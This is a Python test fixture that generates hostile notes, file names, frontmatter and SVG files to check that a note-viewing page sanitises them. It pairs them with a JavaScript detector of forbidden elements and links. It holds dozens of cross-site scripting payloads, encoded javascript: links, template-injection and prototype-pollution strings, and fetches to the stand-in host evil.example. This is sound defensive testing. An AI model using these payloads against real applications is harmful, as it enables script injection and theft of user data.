"""Notes that would run code, or ask another host for something, in a page that trusts what notes say."""

import json
from collections.abc import Mapping

EVIL = "http://evil.example"
RUN = "window.pwned=1;alert(1)"

FAULTS = """() => {
  const bad = [];
  for (const one of document.querySelectorAll('main *')) {
    if (one.localName === 'img') {
      // Bytes that the page fetched itself; an SVG in an img runs no script and asks nobody.
      if (!/^data:image\\/(?:png|jpeg|gif|webp|avif|svg\\+xml);base64,[A-Za-z0-9+/]+=*$/.test(one.src))
        bad.push(`img ${one.src.slice(0, 80)}`);
    }
    if
    (/^(?:script|iframe|object|embed|image|form|style|link|meta|base|video|audio|use|foreignobject|animate)$/i
      .test(one.localName)) bad.push(one.localName);
    for (const { name, value } of one.attributes) {
      if (/^on/i.test(name) || name === 'style' && /url/i.test(value) ||
      /^(?:src|srcdoc|action|formaction)$/i.test(name) && one.localName !== 'img')
        bad.push(`${one.localName} ${name}=${value}`);
      if (/href$/i.test(name) &&
      !/^(?:https?:\\/\\/|mailto:|#\\/|obsidian:\\/\\/open\\?path=%2F|zotero:)/.test(value))
        bad.push(`${one.localName} ${name}=${value}`);
    }
  }
  if (window.pwned !== undefined || ({}).polluted !== undefined) bad.push('a note has run');
  return bad;
}"""
"""Finds what a note has put into the page that could run or fetch something."""

IN_TEXT = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={EVIL}/x.js></sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{EVIL}/pixel.png">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>click</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    f"<math><mtext></table><mglyph><style><img src=x onerror={RUN}>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="{EVIL}/x.swf"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f'<link rel=stylesheet href="{EVIL}/x.css">',
    f"<style>@import url({EVIL}/x.css); body {{ background: url({EVIL}/b.png) }}</style>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}"><button autofocus onfocus={RUN}>x</button></form>',
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN} onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4" autoplay></video>',
    f"<marquee onstart={RUN}>x</marquee>",
    f'<div style="background:url({EVIL}/s.png);animation:x" onanimationstart={RUN}>x</div>',
    f"<!--><img src=x onerror={RUN}>-->",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f'<a href="javascript:{RUN}">x</a>',
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](java\tscript:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](%6Aavascript:{RUN})",
    f"[click](\x01javascript:{RUN})",
    f"[click](vbscript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd) [z](zotero://select/1) [s](smb://evil.example/x) [m](ms-msdt:/id)",
    "[click](//evil.example/x)",
    f'[click](http://x" onmouseover="{RUN})',
    f"[<img src=x onerror={RUN}>](http://example.org)",
    f"[ref][1]\n\n[1]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"![alt]({EVIL}/i.png)",
    f"![alt](javascript:{RUN})",
    f'![" onerror="{RUN}](x)',
    f"![[{EVIL}/i.png]]",
    f"![](data:image/svg+xml,<svg onload={RUN}>)",
    f"[[javascript:{RUN}]]",
    f"[[x|<img src=x onerror={RUN}>]]",
    f"[[x#<img src=x onerror={RUN}>]]",
    f"![[<img src=x onerror={RUN}>]]",
    f"# <img src=x onerror={RUN}>",
    f"<h1 onclick={RUN}>x</h1>\n===",
    f"#tag<img/src=x/onerror={RUN}>",
    f"> [!<img src=x onerror={RUN}>] <script>{RUN}</script>\n> x",
    f"| <img src=x onerror={RUN}> | b |\n| --- | --- |\n| <script>{RUN}</script> | `<script>` |",
    f"- [<] <img src=x onerror={RUN}>\n- [ ] <script>{RUN}</script>",
    f'```"><script>{RUN}</script>\n<script>{RUN}</script>\n```',
    f"```html\n<script>{RUN}</script>\n```",
    f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"]\nclick A "javascript:{RUN}"\n```',
    f"```dataviewjs\n{RUN}\n```",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$<img src=x onerror={RUN}>$$",
    f"%%<script>{RUN}</script>%% ==<img src=x onerror={RUN}>== ~~<svg onload={RUN}>~~",
    f"text ^id<img src=x onerror={RUN}>",
    f"<%= {RUN} %> {{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}}",
    '<a href="obsidian://open?path=/etc/passwd">x</a> [y](obsidian://advanced-uri?eval=1)',
    f"__proto__ constructor toString <x t=script text={RUN}>",
    f"![[pic <svg onload={RUN}>.svg|300]]",
    "![[HOSTILE_PICTURE.svg]]",
    "![[text 00]] ![[board.canvas]]",
    f"\u202e<img src=x onerror={RUN}>\u2028<script>{RUN}</script>\x0b",
)
"""Each is the text of one note."""

IN_FRONTMATTER = (
    f'title: "<img src=x onerror={RUN}>"',
    f'aliases: ["<script>{RUN}</script>", "javascript:{RUN}"]',
    f'tags: ["<img/src=x/onerror={RUN}>", "a\\"onclick=x"]',
    f'cover: "{EVIL}/cover.png"\nbanner: "![]({EVIL}/b.png)"',
    f'"<img src=x onerror={RUN}>": x\n__proto__: {{polluted: true}}\nconstructor: x',
    f'cssclasses: ["x\\"><script>{RUN}</script>"]\nlink: "[[<svg onload={RUN}>]]"',
    f'html: |\n  <iframe src="{EVIL}"></iframe>',
)

IN_NAMES = (
    f"<img src=x onerror={RUN}>.md",
    f"<script>{RUN}<script>.md",
    f'" onmouseover="{RUN}.md',
    f"' onclick='{RUN}.md",
    f"javascript:{RUN}.md",
    "#token=stolen-stolen-stolen-stolen.md",
    f"<svg onload={RUN}>/note in a folder.md",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E.md",
    "a&#x3C;b?path=x&f=y.md",
)


def hostile_notes() -> Mapping[str, str]:
    """All notes, by path. Every one holds the word `kestrel`, and links to the next one."""
    texts = {f"text {number:02}.md": text for number, text in enumerate(IN_TEXT)}
    texts |= {
        f"front {number:02}.md": f"---\n{front}\n---\n\nWith properties."
        for number, front in enumerate(IN_FRONTMATTER)
    }
    texts |= dict.fromkeys(IN_NAMES, "A name that is code.")
    texts[f"pic <svg onload={RUN}>.svg"] = (
        f"<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20' onload='{RUN}'/>"
    )
    texts["HOSTILE_PICTURE.svg"] = (
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
        " width='20' height='20'>"
        f"<style>@import url({EVIL}/x.css);</style><script>{RUN}</script><script href='{EVIL}/x.js'/>"
        f"<image href='{EVIL}/pixel.png' width='9' height='9'/><use xlink:href='{EVIL}/x.svg#a'/>"
        f"<animate onbegin='{RUN}' attributeName='x' dur='1s'/>"
        f"<a href='javascript:{RUN}'><text y='9'>x</text></a>"
        f"<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='{EVIL}'/>"
        "</foreignObject></svg>"
    )
    card = {
        "id": "1",
        "type": "text",
        "text": f"kestrel <img src=x onerror={RUN}>",
        "x": 0,
        "y": 0,
        "width": 1,
    }
    texts["board.canvas"] = json.dumps({"nodes": [{**card, "height": 1}], "edges": []})
    linked = [path for path in texts if path.endswith(".md")]
    after = dict(zip(linked, [*linked[1:], linked[0]], strict=True))
    return {
        path: f"{text}\n\nkestrel [[{after[path].removesuffix('.md')}]]\n" if path in after else text
        for path, text in texts.items()
    }
